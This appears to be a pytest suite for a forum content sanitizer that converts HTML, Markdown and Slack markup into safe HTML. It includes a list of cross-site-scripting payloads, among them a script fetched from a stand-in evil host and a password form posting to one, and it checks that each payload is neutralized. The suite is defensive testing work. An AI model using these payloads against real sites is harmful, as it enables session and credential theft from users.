"""What members wrote is shown, and nothing in it can do anything."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from steward.stream.activity.cooking import ATTRIBUTES, LONGEST, TAGS, cook, mentions_of, words_of
from steward.stream.activity.enums import Markup

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    '<img alt="><script>alert(1)</script>" src=y>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://x' onclick=alert(1) style='position:fixed' class='btn' id='main' target=_top>x</a>",
    "<form action=//evil><input name=password><button>go</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<object data=//evil></object><embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://a.example/"onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<javascript:alert(1)|click>",
    "<https://x.example|<img src=x onerror=alert(1)>>",
    "<@U1|<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```<script>alert(1)</script>```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ue0000\ue001 \ue00099\ue001",
    "&#xE000;0&#xE001; &#xE000;99&#xE001; `code`",
    "https://x.example/'onmouseover='alert(1)",
    'https://x.example/"onmouseover="alert(1)',
]


class Reader(HTMLParser):
    """Notes every element and attribute of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if (tag, name) == ("a", "rel"):
                continue
            if name not in ATTRIBUTES.get(tag, ()):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:")):
                self.wrong.append(f"{tag} {name}={value}")


def harm_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("markup", list(Markup))
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str, markup: Markup) -> None:
    assert harm_in(cook(f"before {attack} after", markup, base="https://forum.example/t/1")) == []
    assert harm_in(cook(attack, markup, names={"U1": "<script>alert(1)</script>"})) == []


@settings(max_examples=150, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("<>\"'`*_~[]()!&;#@|/\\=: \nabé社群\ue000\ue001:javscript")), max_size=120),
    st.sampled_from(list(Markup)),
)
def test_no_text_becomes_harmful(text: str, markup: Markup) -> None:
    assert harm_in(cook(text, markup, base="https://forum.example/")) == []


def test_plain_text_keeps_its_lines_and_gets_its_links() -> None:
    cooked = cook("one < two\nsee https://example.org/路径?a=1&b=2.", Markup.PLAIN)

    link = '<a href="https://example.org/路径?a=1&amp;b=2" rel="nofollow noopener noreferrer">'
    assert cooked == f"one &lt; two<br>see {link}https://example.org/路径?a=1&amp;b=2</a>."


def test_quoted_mail_is_a_quotation_and_closed_when_it_is_long() -> None:
    assert cook("> a\n> b\nc", Markup.PLAIN) == "<blockquote>a<br>b</blockquote>c"
    assert cook("\n".join(["> q"] * 6), Markup.PLAIN).startswith("<details><summary>")


def test_pictures_become_links() -> None:
    assert cook('<img src="/up/1.png" alt="猫">', Markup.HTML, base="https://forum.example/t/5") == (
        '<a href="https://forum.example/up/1.png" rel="nofollow noopener noreferrer">[picture: 猫]</a>'
    )
    assert "https://a.example/b.png" in cook("![x](https://a.example/b.png)", Markup.MARKDOWN)
    assert cook('<img class="emoji" alt=":smile:" src="x">', Markup.HTML) == ":smile:"


def test_relative_links_are_completed_or_dropped() -> None:
    assert 'href="https://forum.example/u/ann"' in cook(
        '<a href="/u/ann">a</a>', Markup.HTML, base="https://forum.example/t/5"
    )
    assert "href" not in cook('<a href="/accounts/logout/">a</a>', Markup.HTML)


@pytest.mark.parametrize(
    "text", ["**重要：**请看", "请看**“社群”**运营", "他说**你好。**然后走了", "**bold** word", "这是**重点**吗"]
)
def test_chinese_bold_needs_no_spaces(text: str) -> None:
    cooked = cook(text, Markup.MARKDOWN)

    assert "<strong>" in cooked
    assert "**" not in cooked


def test_markdown_without_html_of_its_own() -> None:
    cooked = cook("# Head\n\na_b_c <b>x</b> <!-- template -->\n\n| a |\n|-|\n| 1 |", Markup.MARKDOWN)

    assert "<h4>Head</h4>" in cooked
    assert "a_b_c &lt;b&gt;x&lt;/b&gt;" in cooked
    assert "template" not in cooked
    assert "<td>1</td>" in cooked


def test_slack_markup_is_read() -> None:
    cooked = cook(
        "*bold* _it_ ~no~ `a*b*c` <@U1> <#C1|general> <!here> <https://x.example|label>",
        Markup.MRKDWN,
        names={"U1": "张伟"},
    )

    assert cooked == (
        "<b>bold</b> <i>it</i> <s>no</s> <code>a*b*c</code> <b>@张伟</b> <b>#general</b> <b>@here</b> "
        '<a href="https://x.example" rel="nofollow noopener noreferrer">label</a>'
    )
    assert mentions_of("<@U1> and <@U2|bob>") == {"U1"}


def test_slack_entities_are_not_escaped_twice() -> None:
    assert (
        cook("a &lt; b &amp;&amp; c\n&gt; quote", Markup.MRKDWN)
        == "a &lt; b &amp;&amp; c<blockquote>quote</blockquote>"
    )


def test_code_stands_alone_without_empty_lines_around_it() -> None:
    assert cook("run\n```\n(a)\n```\n \nthen", Markup.MRKDWN) == "run<pre><code>(a)</code></pre>then"


def test_words_are_what_a_reader_reads() -> None:
    assert words_of("<p>Hello <b>社群</b></p><script>x()</script><p>a &lt; b</p>", Markup.HTML) == "Hello 社群\na < b"
    assert words_of("see <https://x.example|the docs> <@U1>", Markup.MRKDWN) == "see the docs "


def test_a_tag_that_was_cut_is_not_a_word() -> None:
    assert words_of('<p>before <img src="https://x.example/a', Markup.HTML) == "before"


def test_pictures_of_authors_in_quotations_are_left_out() -> None:
    assert cook('<img class="avatar" src="https://x.example/a.png"> Ann:', Markup.HTML) == " Ann:"


def test_endless_texts_are_cut() -> None:
    assert len(cook("社" * (LONGEST * 2), Markup.PLAIN)) == LONGEST
